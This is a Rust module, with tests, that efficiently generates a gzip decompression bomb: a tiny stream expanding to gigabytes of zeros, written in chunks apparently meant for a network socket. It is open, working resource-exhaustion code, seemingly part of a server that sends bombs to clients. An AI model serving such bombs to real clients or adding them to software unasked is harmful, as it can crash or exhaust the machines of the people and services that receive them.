//! A gzip stream that expands to a chosen, large number of zero bytes, built without compressing
//! all of them.
//!
//! The deflate data for one megabyte of zeros is compressed with a full flush, which byte-aligns
//! the output and restarts the compressor from an empty window. Every later megabyte therefore
//! compresses to the same bytes, and the stream is that block repeated. The CRC-32 of the whole
//! content is combined from the CRC-32 of one block, so a 10 GiB bomb costs milliseconds.

use std::io;

use flate2::{Compress, Compression, FlushCompress, Status};

/// Decompressed bytes per repeated block.
const BLOCK: usize = 1 << 20;

/// The gzip member header: magic, deflate method, no flags, no modification time, unknown OS.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// The parts of a gzip bomb, streamed in order by [`GzipBomb::write_to`].
pub(crate) struct GzipBomb {
    first: Vec<u8>,
    repeated: Vec<u8>,
    repeats: u64,
    tail: Vec<u8>,
    trailer: [u8; 8],
}

impl GzipBomb {
    /// Builds a bomb that expands to `decompressed` zero bytes.
    pub(crate) fn new(decompressed: u64) -> GzipBomb {
        let zeros = vec![0u8; BLOCK];
        let blocks = decompressed / BLOCK as u64;
        // The remainder is below BLOCK, so it fits in usize.
        let rest = (decompressed % BLOCK as u64) as usize;

        let mut compressor = Compress::new(Compression::best(), false);
        let mut first = Vec::new();
        let mut repeated = Vec::new();
        if blocks >= 1 {
            first = deflate(&mut compressor, &zeros, FlushCompress::Full);
        }
        if blocks >= 2 {
            repeated = deflate(&mut compressor, &zeros, FlushCompress::Full);
        }
        let tail = deflate(&mut compressor, &zeros[..rest], FlushCompress::Finish);

        let mut block_crc = crc32fast::Hasher::new();
        block_crc.update(&zeros);
        let mut crc = repeat_crc(&block_crc, blocks);
        let mut rest_crc = crc32fast::Hasher::new();
        rest_crc.update(&zeros[..rest]);
        crc.combine(&rest_crc);

        let mut trailer = [0u8; 8];
        trailer[..4].copy_from_slice(&crc.finalize().to_le_bytes());
        // ISIZE is the decompressed length modulo 2^32.
        trailer[4..].copy_from_slice(&(decompressed as u32).to_le_bytes());
        GzipBomb {
            first,
            repeated,
            repeats: blocks.saturating_sub(1),
            tail,
            trailer,
        }
    }

    /// Returns the length of the compressed stream in bytes.
    pub(crate) fn len(&self) -> u64 {
        let repeated = self.repeated.len() as u64 * self.repeats;
        (HEADER.len() + self.first.len() + self.tail.len() + self.trailer.len()) as u64 + repeated
    }

    /// Writes the stream through `write`, which stops early by returning an error.
    pub(crate) fn write_to(
        &self,
        mut write: impl FnMut(&[u8]) -> io::Result<()>,
    ) -> io::Result<()> {
        write(&HEADER)?;
        write(&self.first)?;

        // Group repeats into writes of about 64 KiB so the socket sees few large writes.
        let per_write = (64 * 1024 / self.repeated.len().max(1)).max(1) as u64;
        let group = self
            .repeated
            .repeat(per_write.min(self.repeats.max(1)) as usize);
        let mut left = self.repeats;
        while left > 0 {
            let now = left.min(per_write);
            // `now` is at most per_write, which is the group's repeat count.
            write(&group[..self.repeated.len() * now as usize])?;
            left -= now;
        }

        write(&self.tail)?;
        write(&self.trailer)
    }

    /// Returns the whole stream in memory (for tests of small bombs).
    #[cfg(test)]
    pub(crate) fn to_vec(&self) -> Vec<u8> {
        let mut out = Vec::new();
        let _ = self.write_to(|bytes| {
            out.extend_from_slice(bytes);
            Ok(())
        });
        out
    }
}

/// Compresses `input` and flushes with `flush`, returning the raw deflate bytes produced.
fn deflate(compressor: &mut Compress, input: &[u8], flush: FlushCompress) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len() / 512 + 1024);
    let start = compressor.total_in();
    loop {
        if out.len() == out.capacity() {
            out.reserve(out.capacity().max(1024));
        }
        // Counted from this call's start, so it never exceeds input.len().
        let consumed = (compressor.total_in() - start) as usize;
        let status = compressor.compress_vec(&input[consumed..], &mut out, flush);
        let consumed = (compressor.total_in() - start) as usize;
        let flushed = consumed == input.len() && out.len() < out.capacity();
        match status {
            Ok(Status::StreamEnd) => break,
            Ok(_) if flushed && !matches!(flush, FlushCompress::Finish) => break,
            Ok(_) => {}
            Err(_) => break,
        }
    }
    out
}

/// Returns the CRC-32 state of `count` copies of the content behind `block`.
fn repeat_crc(block: &crc32fast::Hasher, mut count: u64) -> crc32fast::Hasher {
    let mut result = crc32fast::Hasher::new();
    let mut power = block.clone();
    while count > 0 {
        if count & 1 == 1 {
            result.combine(&power);
        }
        let copy = power.clone();
        power.combine(&copy);
        count >>= 1;
    }
    result
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    fn expand(bytes: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(bytes)
            .read_to_end(&mut out)
            .unwrap();
        out
    }

    #[test]
    fn bomb_expands_to_exact_size() {
        for size in [
            0u64,
            1,
            1000,
            BLOCK as u64,
            BLOCK as u64 + 7,
            5 * BLOCK as u64 + 123,
        ] {
            let bomb = GzipBomb::new(size);
            let bytes = bomb.to_vec();
            assert_eq!(bytes.len() as u64, bomb.len(), "length for {size}");
            let expanded = expand(&bytes);
            assert_eq!(expanded.len() as u64, size, "size {size}");
            assert!(expanded.iter().all(|&b| b == 0), "zeros for {size}");
        }
    }

    #[test]
    fn bomb_is_small() {
        let bomb = GzipBomb::new(1 << 30);
        assert!(bomb.len() < 2 << 20, "1 GiB bomb is {} bytes", bomb.len());
    }
}
